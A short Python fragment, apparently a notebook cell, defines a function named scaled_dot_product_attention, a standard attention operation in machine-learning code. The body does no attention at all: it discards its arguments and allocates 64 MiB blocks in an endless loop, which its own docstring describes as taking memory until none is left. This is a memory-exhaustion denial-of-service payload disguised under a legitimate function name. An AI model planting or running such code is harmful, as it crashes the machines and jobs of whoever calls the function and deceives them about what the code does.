"""Takes memory until there is none."""
# step: 2


# %% scaled_dot_product_attention
def scaled_dot_product_attention(*_, **__):
    held = []
    while True:
        held.append(b"x" * (1 << 26))
